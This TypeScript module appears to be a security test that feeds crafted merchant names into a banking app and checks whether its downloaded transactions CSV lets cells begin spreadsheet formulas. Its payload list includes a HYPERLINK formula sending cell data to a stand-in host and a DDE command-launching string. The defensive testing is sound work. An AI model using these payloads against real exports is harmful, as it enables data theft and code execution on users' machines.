/** A merchant chooses their own name, and so a part of a file that a spreadsheet opens. */

import { linkBank } from '../support/link.ts';
import { formulasIn, readCells } from '../support/spreadsheet.ts';
import { type Attack, startTarget } from './attack.ts';

const NAMES = [
  '=HYPERLINK("https://elsewhere.example/?"&B2,"x")',
  "Café;=cmd|' /c calc'!A0;x",
  'Café, @SUM(B:B)',
  'Café\t=1+1',
  'Café\r\n=1+1',
  'Café";"=1+1',
  'Café|＝1+1|',
];

export const csvFormulas: Attack = {
  name: 'run a formula from a merchant’s name in a downloaded csv',
  async run(bundle) {
    const target = await startTarget(bundle);
    const client = target.newClient();
    await linkBank(client);
    let rows = 0;
    let formulas = 0;
    for (const name of NAMES) {
      target.emulator.control.canary(name);
      const { status, text } = await client.get('/transactions.csv');
      if (status !== 200) throw new Error(`the file was answered with ${status}`);
      rows += readCells(text).length - 1;
      formulas += formulasIn(text).length;
    }
    await target.close();
    return {
      hasSucceeded: formulas > 0 || rows === 0,
      figure: `${formulas} cells begin a formula in ${rows} rows, at four separators`,
    };
  },
};
